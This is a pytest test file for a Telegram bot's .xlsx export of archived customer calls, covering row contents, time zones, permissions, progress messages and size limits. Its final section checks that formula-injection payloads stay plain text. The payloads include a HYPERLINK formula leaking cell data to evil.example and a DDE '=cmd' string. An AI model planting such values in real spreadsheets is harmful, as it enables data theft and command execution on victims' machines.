"""/export end to end: the archive's calls of a period as an .xlsx, read back and compared row by row with the
calls seeded (the names, numbers, times and outcomes worked out here from the seeded calls alone)."""

from __future__ import annotations

import io
import itertools
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from sqlite_utils import Database

from bot.calllog.who import WhoAnswered
from bot.formatting import format_for_people
from bot.reports import commands, export, xlsx
from bot.texts import Texts
from storage import CallRecord, Storage, reports
from tests.bot.conftest import ADMIN, GROUP, MANAGER, STRANGER, World, eventually
from tests.bot.test_contacts import book, upload
from tests.bot.test_reports import COMPANY, ZONE, Seeded, archive, episodes, history, midnight, outcome, period_label
from tests.conftest import at_noon

HEADER = ("Время", "Направление", "Клиент", "Имя клиента", "Номер компании", "Статус", "Ожидание", "Разговор",
          "Сотрудник", "Итог")  # fmt: skip
NAMES = {"79160000001": "ООО Ромашка", "79160000002": "Пётр <Иванов>"}


def alert_some_misses(world: World, seeded: Seeded) -> dict[str, str]:
    """Three misses of different customers alerted in the team chat: closed by hand, called back, left open.
    Returns what the export should say of the first two (by vpbx id); the one left open days ago is its episode's."""
    storage = world.services.storage
    storage.chats.subscribe(GROUP, "Sales", [], False, now=1)
    chosen: dict[str, CallRecord] = {}
    for call in seeded.calls:
        if call.is_missed and seeded.start <= call.started_at < seeded.end and call.customer not in chosen:
            chosen[call.customer] = call
    done, called, left = list(chosen.values())[:3]
    alerts = storage.alerts

    def alert(call: CallRecord) -> int:
        assert call.ended_at is not None
        found = alerts.record_missed(GROUP, call.vpbx_id, call.clid, call.dnid, call.started_at, call.ended_at, 1)
        assert found.alert_id is not None
        return found.alert_id

    alerts.close(alert(done), "done", by=ADMIN, name="Иванова", now=2)
    claimed = alerts.claim_callback(alert(called), user_id=MANAGER, name="Попов", now=3)
    assert claimed is not None
    alerts.callback_finished(claimed.id, True, 70, None, now=4, claim=claimed)
    alert(left)
    return {done.vpbx_id: "закрыто вручную (Иванова)", called.vpbx_id: "перезвонил(а) Попов"}


def expected_rows(seeded: Seeded, alerted: dict[str, str], names: dict[str, str]) -> list[tuple[Any, ...]]:
    decided: dict[str, str] = {}
    for _, misses, answer in episodes(seeded):
        kind = outcome(seeded, misses, answer)
        if kind == "called_back":
            assert answer is not None
            said = f"перезвонил(а) {answer.member_name}" if answer.member_name else "перезвонили"
        else:
            said = {"answered_later": "ответили позже", "lost": "потерян", "unresolved": "не дозвонились"}[kind]
        decided.update((miss.vpbx_id, said) for miss in misses)
    rows = []
    chosen = [c for c in seeded.calls if seeded.start <= c.started_at < seeded.end]
    for call in sorted(chosen, key=lambda c: (c.started_at, c.vpbx_id)):
        ring = (call.answered_at or call.ended_at or call.started_at) - call.started_at
        status = "принят" if call.status == "answered" else "пропущен" if call.direction == "in" else "без ответа"
        rows.append(
            (
                datetime.fromtimestamp(call.started_at, ZONE).replace(tzinfo=None),
                "входящий" if call.direction == "in" else "исходящий",
                format_for_people(call.customer),
                names.get(call.customer),
                format_for_people(COMPANY),
                status,
                timedelta(seconds=ring),
                timedelta(seconds=call.talk_seconds),
                call.member_name or "—",
                alerted.get(call.vpbx_id) or decided.get(call.vpbx_id),
            )
        )
    return rows


async def document_to(world: World, chat_id: int, timeout: float = 20.0) -> tuple[Any, dict[str, Any]]:
    sent = await world.tg.wait_for("sendDocument", chat_id=chat_id, ok=True, timeout=timeout)
    message = world.tg.message(chat_id, sent.result["message_id"])
    assert message is not None
    return sent, message


@at_noon  # the export's week and the test's end on the same day
async def test_the_export_has_one_row_per_archived_call_as_people_read_it(world: World) -> None:
    seeded = history()
    archive(world, seeded)
    for number, name in NAMES.items():
        world.services.storage.contacts.set(number, name, by=ADMIN, now=1)
    alerted = alert_some_misses(world, seeded)
    world.tg.send_text(ADMIN, "/export")  # the last 7 days
    sent, message = await document_to(world, ADMIN)

    today = datetime.now(ZONE).date()
    week = replace(seeded, start=midnight(today - timedelta(days=6)), end=midnight(today + timedelta(days=1)))
    expected = expected_rows(week, alerted, NAMES)
    assert len(expected) == len(seeded.calls)  # all of them: the seeded days are within the week
    book = load_workbook(io.BytesIO(sent.files["document"].data))
    sheet = book.active
    assert sheet is not None and sheet.title == "Звонки"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADER
    assert rows[1:] == expected
    assert {"перезвонил(а) Попов", "закрыто вручную (Иванова)", "потерян", "ответили позже"} <= {
        row[-1] for row in expected
    }
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:J{len(expected) + 1}"
    assert sheet.column_dimensions["D"].width >= 20 and sheet.column_dimensions["J"].width >= 20

    first = today - timedelta(days=6)
    assert message["document"]["file_name"] == f"calls_{first:%Y-%m-%d}_{today:%Y-%m-%d}.xlsx"
    assert message["caption"] == f"📄 Звонки за {period_label(week)}: {len(expected)}"  # both years in early January
    actions = world.sent("sendChatAction", chat_id=ADMIN)
    assert actions and actions[0].params["action"] == "upload_document" and actions[0].seq < sent.seq
    assert world.sent("sendMessage", chat_id=ADMIN) == []  # done well within PROGRESS_AFTER: no progress to say
    (entry,) = world.services.storage.audit.recent(action="export")
    assert (entry.actor_id, entry.target) == (ADMIN, "7d")
    assert entry.details == {"start": week.start, "end": week.end, "rows": len(expected)}


async def test_an_export_of_a_chosen_period_has_only_its_calls(world: World) -> None:
    seeded = history()
    archive(world, seeded)
    world.tg.send_text(ADMIN, f"/export {seeded.typed}")
    sent, _ = await document_to(world, ADMIN)
    rows = list(load_workbook(io.BytesIO(sent.files["document"].data)).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert rows[1:] == expected_rows(seeded, {}, {})
    assert len(rows) - 1 < len(seeded.calls)  # the day after the period is not in it


async def test_only_admins_export_and_nothing_is_worked_out_for_a_period_that_is_none(
    world: World, manager: object
) -> None:
    archive(world, history())
    assert await world.ask(MANAGER, "/export") == "Эта команда доступна только администраторам."
    assert (await world.ask(STRANGER, "/export")).startswith("Извините, этот бот работает только для сотрудников")
    assert await world.ask(ADMIN, "/export 30.02") == (
        "Такого периода нет: «30.02». Например: сегодня, вчера, 7д, 28.11, 25.11–28.11 или 28.11.2025."
    )
    assert world.sent("sendDocument") == [] and world.sent("sendChatAction") == []
    assert world.services.storage.audit.recent(action="export") == []
    today = datetime.now(ZONE).strftime("%d.%m.%Y")
    assert await world.ask(ADMIN, "/export сегодня") == f"Звонков за {today} нет."
    assert world.sent("sendDocument") == []
    (entry,) = world.services.storage.audit.recent(action="export")
    assert entry.details["rows"] == 0


async def test_an_export_is_not_posted_in_a_group(world: World) -> None:
    """The whole customer list stays out of a group, even one where the bot works and an admin asks."""
    archive(world, history())
    world.services.storage.chats.subscribe(GROUP, "Sales", [], False, now=1)
    assert await world.ask(ADMIN, "/export", chat_id=GROUP) == (
        "Эта команда работает только в личном чате с ботом: в группе ответ увидели бы все."
    )
    assert world.sent("sendDocument") == [] and world.services.storage.audit.recent(action="export") == []


def test_times_are_the_local_clock_across_the_changes_of_summer_time() -> None:
    """Europe/Berlin: 02:00 becomes 03:00 on 30 March 2025 (01:00 UTC); 03:00 becomes 02:00 on 26 October."""
    berlin = ZoneInfo("Europe/Berlin")
    utc = [(2025, 3, 30, 0, 59, 59), (2025, 3, 30, 1, 0, 0), (2025, 10, 26, 0, 30, 0), (2025, 10, 26, 1, 30, 0)]
    moments = [int(datetime(*moment, tzinfo=UTC).timestamp()) for moment in utc]
    storage = Storage(Database(memory=True))
    storage.calls.ingest(
        [CallRecord(f"{n:040x}", "in", "79160000001", COMPANY, "answered", False, at, at + 5, at + 65)
         for n, at in enumerate(moments)],
        now=moments[-1] + 100,
    )  # fmt: skip
    written = io.BytesIO()
    assert export.write(storage.db.conn, moments[0], moments[-1] + 1, berlin, Texts("ru"), written) == 4
    sheet = load_workbook(written).active
    assert sheet is not None
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        datetime(2025, 3, 30, 1, 59, 59),
        datetime(2025, 3, 30, 3, 0),
        datetime(2025, 10, 26, 2, 30),  # summer time
        datetime(2025, 10, 26, 2, 30),  # an hour later: winter time
    ]


def test_a_link_or_digits_from_outside_stay_plain_text() -> None:
    """Nothing in the export guesses: a name that is a link is no hyperlink, one of digits no number."""
    storage = Storage(Database(memory=True))
    storage.calls.ingest(
        [CallRecord(f"{n:040x}", "in", number, COMPANY, "no answer", False, 1_000 + n, None, 1_010 + n)
         for n, number in enumerate(("79160000001", "79160000002", "007"))],
        now=2_000,
    )  # fmt: skip
    storage.contacts.set("79160000001", "https://evil.example/?leak=1", by=ADMIN, now=1)
    storage.contacts.set("79160000002", "00123", by=ADMIN, now=1)
    written = io.BytesIO()
    export.write(storage.db.conn, 0, 2_000, ZONE, Texts("ru"), written)
    sheet = load_workbook(written).active
    assert sheet is not None
    cells = [(row[2], row[3]) for row in sheet.iter_rows(min_row=2)]
    assert [(number.value, name.value) for number, name in cells] == [
        ("+7 916 000-00-01", "https://evil.example/?leak=1"),
        ("+7 916 000-00-02", "00123"),
        ("007", None),
    ]
    assert all(cell.data_type == "s" and cell.hyperlink is None for pair in cells for cell in pair if cell.value)
    assert not sheet._hyperlinks


# --- a long export says how far it is -------------------------------------------------------------------------
async def test_a_long_export_says_how_far_it_is_in_one_message_edited_in_place_then_deleted(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export is held before its process starts, at the figures it would give halfway through the rows (a
    month takes seconds, this week's hundred rows none)."""
    seeded = history()
    archive(world, seeded)
    monkeypatch.setattr(commands, "PROGRESS_AFTER", 0.0)
    monkeypatch.setattr(commands, "PROGRESS_EVERY", 0.2)
    halfway, go_on = threading.Event(), threading.Event()
    write = export.write_in_process

    def held(*args: Any, progress: export.Progress, **kwargs: Any) -> int:
        progress.total = len(seeded.calls)
        assert halfway.wait(10)
        progress.done = len(seeded.calls) // 2
        assert go_on.wait(10)
        return write(*args, progress=progress, **kwargs)

    monkeypatch.setattr(export, "write_in_process", held)
    world.tg.send_text(ADMIN, "/export")
    told = await world.tg.wait_for("sendMessage", chat_id=ADMIN, ok=True, timeout=10)
    shown = told.result["message_id"]
    assert told.params["text"] == "⏳ Готовлю файл… 0\u00a0%"
    halfway.set()
    half = len(seeded.calls) // 2 * 100 // len(seeded.calls)
    await eventually(lambda: world.tg.message(ADMIN, shown)["text"] == f"⏳ Готовлю файл… {half}\u00a0%")  # type: ignore[index]
    go_on.set()
    sent, _ = await document_to(world, ADMIN)
    await eventually(lambda: world.tg.message(ADMIN, shown) is None)  # gone once the file is there
    (deleted,) = world.sent("deleteMessage", chat_id=ADMIN)
    assert deleted.params["message_id"] == shown and deleted.seq > sent.seq
    assert [call.seq for call in world.sent("sendMessage", chat_id=ADMIN)] == [told.seq]  # one message, edited
    edits = world.sent("editMessageText", chat_id=ADMIN)
    assert edits and {edit.params["message_id"] for edit in edits} == {shown}
    moments = [told.time, *(edit.time for edit in edits)]
    assert all(later - earlier >= 0.2 for earlier, later in itertools.pairwise(moments))


def test_an_export_is_written_by_a_process_of_its_own_whose_progress_this_one_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rows are read and written elsewhere (breaking them here changes nothing); the figures that process gives
    are read here."""
    database, target = tmp_path / "bot.db", tmp_path / "calls.xlsx"
    calls = [CallRecord(f"{n:040x}", "in", f"7916{n:07d}", COMPANY, "answered", False, 1_000 + n, 1_005 + n, 1_065 + n)
             for n in range(2_500)]  # fmt: skip
    with Storage.open(database) as storage:
        storage.calls.ingest(calls, now=5_000)

    def broken(*args: Any) -> Iterator[reports.ExportRow]:
        raise AssertionError("the export read its rows in the bot's own process")

    monkeypatch.setattr(reports, "export_rows", broken)
    progress = export.Progress()
    assert export.write_in_process(database, 0, 5_000, ZONE, Texts("ru"), target, progress=progress) == len(calls)
    assert (progress.total, progress.done, progress.percent) == (len(calls), len(calls), 99)
    rows = list(load_workbook(target, read_only=True).active.iter_rows(min_row=2, values_only=True))  # type: ignore[union-attr]
    assert [row[2] for row in rows] == [format_for_people(call.customer) for call in calls]


async def test_an_export_past_what_telegram_takes_is_given_up_and_said_so(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    seeded = history()
    archive(world, seeded)
    monkeypatch.setattr(commands, "MAX_UPLOAD", 2_000)  # this week's hundred rows pack into some 6 kB
    assert await world.ask(ADMIN, f"/export {seeded.typed}") == (
        f"Выгрузка за {period_label(seeded)} больше 50 МБ — столько Telegram не примет. Выберите период короче."
    )
    assert world.sent("sendDocument") == []
    (entry,) = world.services.storage.audit.recent(action="export")
    assert entry.details["rows"] == len([c for c in seeded.calls if seeded.start <= c.started_at < seeded.end])


# --- text from outside is text ---------------------------------------------------------------------------------
def cells_of(sent: Any) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(sent.files["document"].data)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(min_row=2)]


async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(world: World, manager: object) -> None:
    """Customers named by /name, an /import and a forwarded contact, members named at New-Tel, and a caller's number
    as New-Tel gave it, each starting the way a spreadsheet formula (or error) does: in the file, text as it is."""
    storage, sandbox, now = world.services.storage, world.sandbox, int(time.time())
    # Named at New-Tel before anyone asks the bot: the members' list is cached for a minute (access reads it too).
    members = sandbox.company.members[:3]
    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
    await world.say(MANAGER, '/name 79160000001 =HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")')
    csv = "name,phone\n\"=cmd|' /C calc'!A0\",79160000002\n@SUM(1+1),79160000003\n-2+3,79160000004\n"
    preview = await upload(world, ADMIN, csv.encode(), "clients.csv")
    await world.press(ADMIN, preview, "✅ Записать (3)")
    await world.edited(preview)
    world.tg.share_contact(MANAGER, "+7 916 000-00-05", own=False, first_name="+7+7", forwarded_from=STRANGER)
    (offer,) = await world.replies(MANAGER)
    await world.press(MANAGER, offer, "💾 Записать")
    await world.edited(offer)
    named = book(world)
    assert len(named) == 5 and all(name[0] in "=@-+" for name in named.values())
    answered = [
        sandbox.add_call("in", clid=f"7916000000{n}", status="answered", answered_numbers=(member.internal_number,))
        for n, member in enumerate(members, start=1)
    ]
    world.services.ingest.take(await world.services.newtel.vpbx.get_calls(), now)
    kept = [storage.calls.get(call.vpbx_id) for call in answered]
    assert await WhoAnswered(world.services).ask_now([k for k in kept if k is not None], now) == 3
    formula_caller = CallRecord("f" * 40, "in", "=1+2", COMPANY, "no answer", False, now - 60, None, now - 30)
    unnamed = [CallRecord(f"{n}" * 40, "in", f"7916000000{n}", COMPANY, "no answer", False, now - 90, None, now - 80)
               for n in (3, 4, 5)]  # fmt: skip
    storage.calls.ingest([formula_caller, *unnamed], now)

    world.tg.send_text(ADMIN, "/export сегодня")
    sent, _ = await document_to(world, ADMIN)
    rows = cells_of(sent)
    texts = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    assert texts and [(c.coordinate, c.data_type) for c in texts if c.data_type != "s"] == []
    by_customer = {row[2].value: row for row in rows}
    assert {row[3].value for row in rows} - {None} == set(named.values())  # the names as the book keeps them
    for number, name in named.items():
        assert by_customer[format_for_people(number)][3].value == name
    assert {row[8].value for row in rows} == {"\t=1+1", "#N/A", "Бухгалтерия", "—"}
    assert by_customer["=1+2"][2].data_type == "s"


@pytest.mark.parametrize("start", xlsx.FORMULA_STARTS)
def test_text_that_starts_like_a_formula_is_a_quoted_text_cell(start: str) -> None:
    written = io.BytesIO()
    text = f'{start}HYPERLINK("http://evil.example","x")'
    cleaned = "Бух\x07галтерия \ud800_x0041_\uffff"  # a bell, a lone surrogate, a non-character: dropped
    columns = [xlsx.Column(title, "text", 10) for title in "ABCD"]
    assert xlsx.write(written, "x", columns, [(text, "+7 916 123-45-67", cleaned, None)]) == 1
    cell, number, cleaned_cell, empty = next(load_workbook(written).active.iter_rows(min_row=2))  # type: ignore[union-attr]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert unescape(cell.value) == text  # a CR is written as Excel writes it: _x000D_
    assert (number.data_type, number.value, number.quotePrefix) == ("s", "+7 916 123-45-67", False)
    assert unescape(cleaned_cell.value) == "Бухгалтерия _x0041_"  # what looks like an escape is kept as it is
    assert empty.value is None
